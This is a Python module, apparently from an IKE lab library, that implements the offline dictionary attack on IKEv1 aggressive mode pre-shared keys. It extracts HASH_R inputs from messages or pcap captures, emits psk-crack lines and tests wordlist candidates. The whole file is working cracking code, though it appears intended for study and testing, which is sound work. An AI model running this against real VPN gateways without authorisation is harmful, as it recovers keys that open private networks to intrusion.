"""The offline dictionary attack on IKEv1 aggressive mode with a pre-shared key (what ike-scan's
psk-crack does).

Aggressive mode message 2 carries, in the clear,

    HASH_R = prf(SKEYID, g^xr | g^xi | CKY-R | CKY-I | SAi_b | IDir_b)   with SKEYID = prf(PSK, Ni_b | Nr_b)

and every input except the PSK is in messages 1 and 2. Unlike the keys, HASH_R does not depend on
the Diffie-Hellman secret g^xy, so whoever sees the two messages (or simply starts aggressive mode
with the gateway and reads its answer) can test PSK guesses offline, two HMACs per guess, without
ever talking to the gateway again. Main mode sends its hashes encrypted under keys made with
g^xy, which a passive eavesdropper cannot compute.
"""

from __future__ import annotations

import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from ikelab.crypto.ikev1_kdf import hash_r_parts, joined
from ikelab.crypto.prf import Prf
from ikelab.ikev1.proposals import PRF_OF_HASH
from ikelab.wire.errors import DecodeError
from ikelab.wire.isakmp import HashPayload, IdPayload, KePayload, NoncePayload, SaPayload, decode_message
from ikelab.wire.isakmp_constants import ExchangeType, IkeAttribute, IkeHash, name_of

NON_ESP_MARKER = bytes(4)  # RFC 3948: IKE on UDP 4500 starts with four zero bytes


@dataclass(frozen=True)
class AggressiveMode:
    """What HASH_R covers, as read from messages 1 and 2."""

    g_xi: bytes
    g_xr: bytes
    cky_i: bytes
    cky_r: bytes
    sa_i_b: bytes
    id_ir_b: bytes
    ni: bytes
    nr: bytes
    hash_r: bytes
    prf: Prf  # HMAC with the hash the responder chose

    def psk_crack_line(self) -> str:
        """ike-scan's psk-crack input: g_xr:g_xi:cky_r:cky_i:sai_b:idir_b:ni_b:nr_b:hash_r in hex.
        (psk-crack itself knows only MD5 and SHA-1 HASH_Rs; this module any prf ikelab has.)"""
        fields = (self.g_xr, self.g_xi, self.cky_r, self.cky_i, self.sa_i_b, self.id_ir_b, self.ni, self.nr, self.hash_r)
        return ":".join(f.hex() for f in fields)

    def hash_r_data(self) -> bytes:
        return joined(hash_r_parts(self.g_xi, self.g_xr, self.cky_i, self.cky_r, self.sa_i_b, self.id_ir_b))


def _body(decoded, cls: type) -> bytes:
    at = next((i for i, p in enumerate(decoded.message.payloads) if isinstance(p, cls)), None)
    if at is None:
        raise ValueError(f"the message has no {cls.__name__.removesuffix('Payload')} payload")
    return decoded.raw[at][4:]


def from_messages(message1: bytes, message2: bytes) -> AggressiveMode:
    """Take apart aggressive mode messages 1 and 2; ValueError (DecodeError included) says what is missing."""
    first, second = decode_message(message1), decode_message(message2)
    for decoded, number in ((first, 1), (second, 2)):
        if decoded.message.header.exchange != ExchangeType.AGGRESSIVE or decoded.message.encrypted is not None:
            raise ValueError(f"message {number} is not a clear aggressive mode message")
    reply = second.message.find(SaPayload)
    transforms = [t for p in reply.proposals for t in p.transforms] if reply else []
    if len(transforms) != 1:
        raise ValueError("message 2 must carry the one transform the responder chose")
    hash_id = transforms[0].get(IkeAttribute.HASH_ALGORITHM)
    if hash_id not in PRF_OF_HASH:
        raise ValueError(f"the chosen hash {name_of(IkeHash, hash_id or 0)} is not supported")
    return AggressiveMode(
        g_xi=_body(first, KePayload),
        g_xr=_body(second, KePayload),
        cky_i=first.message.header.cky_i,
        cky_r=second.message.header.cky_r,
        sa_i_b=_body(first, SaPayload),
        id_ir_b=_body(second, IdPayload),
        ni=_body(first, NoncePayload),
        nr=_body(second, NoncePayload),
        hash_r=_body(second, HashPayload),
        prf=PRF_OF_HASH[hash_id],
    )


def from_capture(path: Path | str) -> list[AggressiveMode]:
    """Every aggressive mode exchange in a pcap or pcapng file whose messages 1 and 2 it holds;
    ValueError when the file is no capture."""
    from scapy.error import Scapy_Exception
    from scapy.layers.inet import UDP
    from scapy.utils import rdpcap

    try:
        packets = rdpcap(str(path))
    except Scapy_Exception:  # scapy's word for a file of another kind, or an empty one
        raise ValueError("not a pcap or pcapng capture") from None
    firsts: dict[bytes, bytes] = {}
    found: list[AggressiveMode] = []
    for packet in packets:
        if UDP not in packet:
            continue
        data = bytes(packet[UDP].payload)
        if 4500 in (packet[UDP].sport, packet[UDP].dport):
            if not data.startswith(NON_ESP_MARKER):
                continue  # ESP in UDP
            data = data[4:]
        if len(data) < 28 or data[18] != ExchangeType.AGGRESSIVE or data[19] & 1:
            continue
        cky_i, cky_r = data[:8], data[8:16]
        if cky_r == bytes(8):
            firsts.setdefault(cky_i, data)
        elif cky_i in firsts:
            try:
                found.append(from_messages(firsts.pop(cky_i), data))
            except (DecodeError, ValueError):
                continue  # not a message 2 that carries HASH_R
    return found


@dataclass(frozen=True)
class CrackResult:
    psk: bytes | None  # None when no candidate matched
    guesses: int
    seconds: float

    @property
    def rate(self) -> float:
        """Guesses per second."""
        return self.guesses / self.seconds if self.seconds > 0 else float("inf")


def crack(exchange: AggressiveMode, candidates: Iterable[bytes]) -> CrackResult:
    """Try each candidate PSK: SKEYID = prf(candidate, Ni_b | Nr_b), then HASH_R; stop at a match."""
    prf, nonces, data, target = exchange.prf, exchange.ni + exchange.nr, exchange.hash_r_data(), exchange.hash_r
    guesses = 0
    start = time.perf_counter()
    for candidate in candidates:
        guesses += 1
        if prf(prf(candidate, nonces), data) == target:
            return CrackResult(candidate, guesses, time.perf_counter() - start)
    return CrackResult(None, guesses, time.perf_counter() - start)


def wordlist(path: Path | str) -> Iterator[bytes]:
    """Candidates from a file, one per line, as bytes (any encoding), line ends removed."""
    with open(path, "rb") as f:
        for line in f:
            yield line.rstrip(b"\r\n")
